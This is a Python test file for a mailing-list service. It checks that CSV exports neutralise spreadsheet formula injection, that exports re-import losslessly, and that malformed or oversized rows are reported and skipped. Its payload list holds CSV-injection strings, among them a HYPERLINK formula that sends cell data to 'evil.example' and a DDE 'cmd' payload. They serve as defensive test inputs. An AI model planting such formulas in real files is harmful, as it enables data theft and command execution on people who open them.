"""Hostile: CSV files in and out.

- Exports (CLI and API) never write a cell a spreadsheet would run as a formula, whatever a
  subscriber put in their name, an attribute or even an attribute's name; the import reads
  the export back exactly (lossless).
- A record csv cannot read, a field too long, a control character: each is one bad row in
  the report, named by line; the import goes on. A suggested resume line works.
"""

from __future__ import annotations

import csv
import io
import json
import re
from pathlib import Path

import pytest
from click.testing import CliRunner
from sqlalchemy import func, select

from dispatch import csv_safe
from dispatch.cli import main
from dispatch.models.subscriber import Subscriber
from dispatch.paths import PACKAGE_DIR
from dispatch.subscribers import bulk, service
from dispatch.subscribers.csv_export import export_csv
from dispatch.subscribers.csv_import import ImportAborted, import_csv
from test_web_support import bearer

pytest_plugins = ["test_web_support"]

# what a hostile subscriber types (OWASP CSV injection, plus the full-width forms)
PAYLOADS = [
    "=1+1",
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1",
    "-2+3",
    "@SUM(1+1)",
    "\t=1",
    "\r=1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "'=1",  # already quoted: must come back as written
    "''",
    "'",
    "plain 名字",
    "-",
]
EMAIL_PAYLOADS = ["=1@example.org", "+tag@example.org", "-dash@example.org", "'q@example.org"]


def _is_formula(cell: str) -> bool:
    return bool(cell) and cell[0] in "=+-@\t\r\uff1d\uff0b\uff0d\uff20"


@pytest.fixture
def hostile_list(session):
    news = service.create_list(session, "news", "News")
    for i, payload in enumerate(PAYLOADS):
        person = service.add_subscriber(
            session,
            email=f"p{i}@example.org",
            name=payload.strip(),  # the service trims names
            attributes={
                "note": payload,
                # the import trims header cells, so keys differ only past leading blanks
                (payload if payload[:1] not in "\t\r" else f"k{i}"): "key is hostile",
                "n": str(i),
            },
        )
        service.subscribe(session, person, news)
    for email in EMAIL_PAYLOADS:
        service.subscribe(session, service.add_subscriber(session, email=email, name="x"), news)
    session.commit()
    return news


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.lstrip("\ufeff"), newline="")))


def _assert_no_formula(text: str) -> None:
    rows = _cells(text)
    assert len(rows) == len(PAYLOADS) + len(EMAIL_PAYLOADS) + 1
    for row in rows:
        for cell in row:
            assert not _is_formula(cell), cell


def _snapshot(session) -> dict[str, tuple[str, dict]]:
    """Names and attributes by email, values trimmed as the import trims every cell."""
    return {
        s.email: (s.name, {k: v.strip() for k, v in s.attributes.items()})
        for s in session.scalars(select(Subscriber).order_by(Subscriber.id))
    }


def test_export_neutralises_every_cell_and_import_is_lossless(
    engine, session, hostile_list, tmp_path
):
    before = _snapshot(session)
    out = io.StringIO()
    export_csv(session, "news", out)
    _assert_no_formula(out.getvalue())
    path = tmp_path / "export.csv"
    path.write_text(out.getvalue(), encoding="utf-8", newline="")
    # wipe names and attributes, then import the export back: everything returns as it was
    for person in session.scalars(select(Subscriber)):
        person.name, person.attributes = "", {}
    session.commit()
    result = import_csv(engine, path, "news")
    assert result.skipped_total == 0, result.problems
    session.expire_all()
    assert _snapshot(session) == before


def test_cli_export_is_neutralised(run_cli, hostile_list, tmp_path):
    out = tmp_path / "cli.csv"
    run_cli("subscribers", "export", "--list", "news", "--out", str(out))
    _assert_no_formula(out.read_text(encoding="utf-8-sig"))
    stdout = run_cli("subscribers", "export", "--list", "news").stdout
    _assert_no_formula(stdout)


def test_api_export_is_neutralised(client, hostile_list, tokens):
    response = client.get(
        "/api/subscribers/export",
        params={"list_id": hostile_list.id},
        headers=bearer(tokens["admin"]),
    )
    assert response.status_code == 200
    _assert_no_formula(response.text)


@pytest.mark.parametrize("value", PAYLOADS + ["", "a", "'a", "'''=", "==", "\n=1"])
def test_neutralise_and_restore_are_exact_inverses(value):
    written = csv_safe.neutralise(value)
    assert not _is_formula(written)
    assert csv_safe.restore(written) == value


def test_every_csv_the_package_writes_goes_through_csv_safe():
    """A new export must not bring the problem back: no other csv.writer in the service
    (dispatch/dev/ only writes synthetic input files for benchmarks)."""
    offenders = [
        str(p.relative_to(PACKAGE_DIR))
        for p in PACKAGE_DIR.rglob("*.py")
        if re.search(r"csv\.(writer|DictWriter)\(", p.read_text(encoding="utf-8"))
        and p.name != "csv_safe.py"
        and "dev" not in p.relative_to(PACKAGE_DIR).parts
    ]
    assert offenders == []


@pytest.fixture
def run_cli(settings, engine):
    runner = CliRunner()
    env = {
        "DISPATCH_DATABASE_URL": settings.database_url,
        "DISPATCH_DATA_DIR": str(settings.data_dir),
    }

    def invoke(*args: str):
        result = runner.invoke(main, list(args), env=env, catch_exceptions=False)
        assert result.exit_code == 0, result.output
        return result

    return invoke


# -- bad records are bad rows; resume works -------------------------------------------------


@pytest.fixture
def news(session):
    mailing_list = service.create_list(session, "news", "News")
    session.commit()
    return mailing_list


def _count(session) -> int:
    return session.scalar(select(func.count()).select_from(Subscriber)) or 0


BAD_RECORDS = {
    "unquoted_name_over_csv_limit": "big@example.org," + "x" * 200_000 + ",v",
    "quoted_multiline_over_csv_limit": 'big@example.org,"' + ("y" * 999 + "\n") * 200 + '",v',
    "long_attribute": "big@example.org,Big," + "z" * 5_000,
    "long_email": "a" * 100_000 + "@example.org,Big,v",
    "nul_in_name": "big@example.org,A\x00B,v",
    "escape_in_email": "big\x1b@example.org,Big,v",
    "bell_in_attribute": "big@example.org,Big,a\x07b",
}


@pytest.mark.parametrize("kind", sorted(BAD_RECORDS))
@pytest.mark.parametrize("chunk_rows", [2, 2000])
def test_a_bad_record_is_one_bad_row_and_the_import_goes_on(
    engine, session, news, tmp_path, kind, chunk_rows
):
    path = tmp_path / "bad.csv"
    lines = ["email,name,note", "a@example.org,A,1", "b@example.org,B,2"]
    lines += [BAD_RECORDS[kind], "c@example.org,C,3", "d@example.org,D,4"]
    path.write_text("\n".join(lines) + "\n", encoding="utf-8", newline="")
    result = import_csv(engine, path, "news", chunk_rows=chunk_rows)
    assert result.imported == 4, result.problems
    assert result.skipped_total == 1 and [p.line for p in result.problems] == [4]
    assert len(result.problems[0].detail) < 200  # the report quotes, never copies, the value
    assert sorted(session.scalars(select(Subscriber.email))) == [
        "a@example.org",
        "b@example.org",
        "c@example.org",
        "d@example.org",
    ]


def test_record_beyond_every_limit_is_a_malformed_row(engine, session, news, tmp_path):
    path = tmp_path / "giant.csv"
    with path.open("w", encoding="utf-8", newline="") as f:
        f.write("email,name\na@example.org,A\n")
        f.write("giant@example.org," + "g" * (17 * 1024 * 1024) + "\n")
        f.write("b@example.org,B\n")
    result = import_csv(engine, path, "news")
    assert result.imported == 2 and dict(result.skipped) == {"malformed_record": 1}
    assert result.problems[0].line == 3


def test_suggested_resume_line_works(engine, session, news, tmp_path, monkeypatch):
    """A chunk fails (the database went away); the error names a line; starting there stores
    the rest (the bad row on the way is reported again, not fatal), and nobody is stored
    twice."""
    path = tmp_path / "resume.csv"
    rows = ["email,name"]
    rows += [f"r{i:03d}@example.org,R{i}" for i in range(10)]
    rows.append("bad@example.org," + "x" * 200_000)  # line 12: a bad row, first of chunk 3
    rows += [f"s{i:03d}@example.org,S{i}" for i in range(10)]  # lines 13..22
    path.write_text("\n".join(rows) + "\n", encoding="utf-8", newline="")
    real = bulk.insert_subscribers
    failed = {"once": False}

    def failing(conn, new_rows, list_id, now):
        # the chunk holding s000 fails once (by content, not call order: on PostgreSQL two
        # chunks are written at once)
        if not failed["once"] and any(r["email"] == "s000@example.org" for r in new_rows):
            failed["once"] = True
            raise RuntimeError("connection lost")
        return real(conn, new_rows, list_id, now)

    monkeypatch.setattr(bulk, "insert_subscribers", failing)
    with pytest.raises(ImportAborted) as aborted:
        import_csv(engine, path, "news", chunk_rows=5)
    line = aborted.value.resume_line
    assert f"--start-line {line}" in str(aborted.value)
    stored = _count(session)
    assert stored == 10  # two chunks of five
    monkeypatch.setattr(bulk, "insert_subscribers", real)
    resumed = import_csv(engine, path, "news", start_line=line, chunk_rows=5)
    assert resumed.imported == 20 - stored
    assert _count(session) == 20
    result = runner_json(engine, path)
    assert result["imported"] == 0 and result["skipped_by_reason"] == {"field_too_long": 1}


def runner_json(engine, path: Path) -> dict:
    """Importing the whole file once more changes nothing (every row already there)."""
    return json.loads(json.dumps(import_csv(engine, path, "news").as_dict()))


# -- the suppression list's CSV (bounces area) ----------------------------------------------


def test_suppression_export_is_neutralised_and_imports_back(session):
    from dispatch.bounces import suppressions

    for i, payload in enumerate(["=1+1", "@SUM(1)", "'x", "plain"]):
        row = service.suppress(session, email=f"-s{i}@example.org", reason="manual", source=payload)
        row.note = payload
    session.commit()
    text = suppressions.export_csv(session)
    for row in _cells(text):
        for cell in row:
            assert not _is_formula(cell), cell
    notes = {s.email: s.note for s in session.scalars(select(suppressions.Suppression))}
    for s in session.scalars(select(suppressions.Suppression)):
        session.delete(s)
    session.commit()
    report = suppressions.import_csv(session, text)
    assert report.added == 4 and not report.problems
    assert {s.email: s.note for s in session.scalars(select(suppressions.Suppression))} == notes


def test_suppression_import_reports_an_unreadable_record_and_goes_on(session):
    from dispatch.bounces import suppressions

    old = csv.field_size_limit(131_072)  # csv's default: the field below is over it
    try:
        text = "email,note\na@example.org,x\nb@example.org," + "y" * 200_000 + "\nc@example.org,z\n"
        report = suppressions.import_csv(session, text)
    finally:
        csv.field_size_limit(old)
    assert report.added == 2
    assert [(p["line"], "malformed" in p["detail"]) for p in report.problems] == [(3, True)]
    stored = set(session.scalars(select(suppressions.Suppression.email)))
    assert stored == {"a@example.org", "c@example.org"}
